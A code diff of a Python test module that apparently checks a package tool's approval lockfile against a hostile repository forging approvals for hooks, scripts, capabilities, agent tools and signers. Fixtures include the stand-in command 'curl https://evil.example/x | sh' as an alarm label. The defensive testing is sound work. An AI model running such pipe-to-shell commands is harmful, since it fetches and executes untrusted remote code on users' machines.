@@ -29,6 +29,7 @@ from tests.attacks.hostile_repository.upstream import (
     Upstream,
 )
 from tests.registry.simulated_registry import key
+from tests.scenes.approvals import but
 from tests.scenes.person import Person
 
 pytestmark = pytest.mark.slow
@@ -111,28 +112,28 @@ def emptied(clone: Clone) -> None:
 
 def one_hook_more(clone: Clone) -> None:
     more = HookAction("true", "tool", "shell/run", (("command", "rm"),))
-    clone.edit_row(DEPLOY, approved_hooks=(*clone.row(DEPLOY).hooks, more))
+    clone.edit_row(DEPLOY, approved=but(hook=(*clone.row(DEPLOY).hooks, more)))
 
 
 def other_hook_inputs(clone: Clone) -> None:
     [hook] = clone.row(DEPLOY).hooks
-    clone.edit_row(DEPLOY, approved_hooks=(hook, replace(hook, inputs=(("amount", "1000"),))))
+    clone.edit_row(DEPLOY, approved=but(hook=(hook, replace(hook, inputs=(("amount", "1000"),)))))
 
 
 def one_run_more(clone: Clone) -> None:
     more = Run("attached-file", "scripts/more.sh", "#!/bin/sh, executable", "0" * 64)
-    clone.edit_row(SKILL, approved_runs=(*clone.row(SKILL).runs, more))
+    clone.edit_row(SKILL, approved=but(run=(*clone.row(SKILL).runs, more)))
 
 
 def runs_of_other_bytes(clone: Clone) -> None:
     runs = clone.row(SKILL).runs
-    clone.edit_row(SKILL, approved_runs=(*runs, *(replace(one, sha256="0" * 64) for one in runs)))
+    clone.edit_row(SKILL, approved=but(run=(*runs, *(replace(one, sha256="0" * 64) for one in runs))))
 
 
 def one_alarm_more(clone: Clone) -> None:
     """Approve in advance an alarm that the next version would raise."""
     more = "pipe-to-shell curl https://evil.example/x | sh"
-    clone.edit_row(SKILL, approved_facts=tuple(sorted((*clone.row(SKILL).approved_facts, more))))
+    clone.edit_row(SKILL, approved=but(fact=tuple(sorted((*clone.row(SKILL).approved.of("fact"), more)))))
 
 
 def broken(rule: str, repair: str = "ok") -> dict[str, str]:
@@ -146,15 +147,15 @@ def beyond(name: str, act: Act, item: Identity = DEPLOY) -> Attack:
 
 
 BEYOND = (
-    beyond("rye.* is approved for an item with few rights", row(DEPLOY, approved_capabilities=("rye.*",))),
+    beyond("rye.* is approved for an item with few rights", row(DEPLOY, approved=but(right=("rye.*",)))),
     beyond(
         "rye.* is approved for what the next version asks",
-        row(WIDE, approved_capabilities=("rye.execute.*", "rye.search.tool.*")),
+        row(WIDE, approved=but(right=("rye.execute.*", "rye.search.tool.*"))),
         WIDE,
     ),
     beyond(
         "a right in a wider spelling is approved",
-        row(DEPLOY, approved_capabilities=("rye.execute.tool.shell.*", "rye.search.tool.*")),
+        row(DEPLOY, approved=but(right=("rye.execute.tool.shell.*", "rye.search.tool.*"))),
     ),
     beyond("a hook that the item does not have is approved", one_hook_more),
     beyond("a hook with other inputs is approved", other_hook_inputs),
@@ -162,26 +163,38 @@ BEYOND = (
     beyond("runs of other bytes are approved", runs_of_other_bytes, SKILL),
     beyond("an alarm that the skill does not have is approved", one_alarm_more, SKILL),
     beyond(
-        "an alarm is approved for an item without any", row(CHECK, approved_facts=("pipe-to-shell curl x | sh",)), CHECK
+        "an alarm is approved for an item without any",
+        row(CHECK, approved=but(fact=("pipe-to-shell curl x | sh",))),
+        CHECK,
     ),
     beyond(
-        "a tool that the agent does not ask for is approved", row(AGENT, approved_tools=("Bash", "Edit", "Read")), AGENT
+        "a tool that the agent does not ask for is approved",
+        row(AGENT, approved=but(tool=("Bash", "Edit", "Read"))),
+        AGENT,
     ),
-    beyond("every tool is approved for an agent", row(AGENT, approved_tools=("*",), approved_limits=()), AGENT),
-    beyond("an agent's tools are approved without their restrictions", row(AGENT, approved_limits=()), AGENT),
+    beyond("every tool is approved for an agent", row(AGENT, approved=but(tool=("*",), limit=())), AGENT),
+    beyond("an agent's tools are approved without their restrictions", row(AGENT, approved=but(limit=())), AGENT),
 )
 _ASKED = {"install": "consent-needed", "check": "ok", "sbom": "ok"}
 LESS = (
-    Attack("a right that is not approved", row(DEPLOY, approved_capabilities=()), _ASKED),
-    Attack("runs that are not approved", row(SKILL, approved_runs=()), {**_ASKED, "repair": "consent-needed"}, SKILL),
+    Attack("a right that is not approved", row(DEPLOY, approved=but(right=())), _ASKED),
     Attack(
-        "an alarm that is not approved", row(SKILL, approved_facts=()), {**_ASKED, "repair": "consent-needed"}, SKILL
+        "runs that are not approved",
+        row(SKILL, approved=but(run=())),
+        {**_ASKED, "repair": "consent-needed"},
+        SKILL,
     ),
-    Attack("tools that are not approved", row(AGENT, approved_tools=(), approved_limits=()), _ASKED, AGENT),
-    Attack("a row that says that nobody approved it", row(DEPLOY, approved_signer=""), _ASKED),
+    Attack(
+        "an alarm that is not approved",
+        row(SKILL, approved=but(fact=())),
+        {**_ASKED, "repair": "consent-needed"},
+        SKILL,
+    ),
+    Attack("tools that are not approved", row(AGENT, approved=but(tool=(), limit=())), _ASKED, AGENT),
+    Attack("a row that says that nobody approved it", row(DEPLOY, approved=but(signer="")), _ASKED),
     Attack(
         "a row that was approved for another signer",
-        row(DEPLOY, approved_signer=key("thief").public.fingerprint),
+        row(DEPLOY, approved=but(signer=key("thief").public.fingerprint)),
         {**_ASKED, "repair": "consent-needed"},
     ),
 )
@@ -308,10 +321,10 @@ class TestAMemberWhoAgreed:
         assert member.path("rye.lock").read_bytes() == before
 
     def test_is_asked_about_a_hook_that_was_approved_by_a_commit(self, member: Clone) -> None:
-        honest = member.row(DEPLOY).approved_hooks
-        member.edit_row(DEPLOY, approved_hooks=())
+        honest = member.row(DEPLOY).approved.of("hook")
+        member.edit_row(DEPLOY, approved=but(hook=()))
         member.ok("ci")
-        member.edit_row(DEPLOY, approved_hooks=honest)
+        member.edit_row(DEPLOY, approved=but(hook=honest))
         member.ok("ci")  # agreed to before
 
     def test_executes_no_hook_that_only_a_commit_approved(self, runner: CloneAttackRunner) -> None:
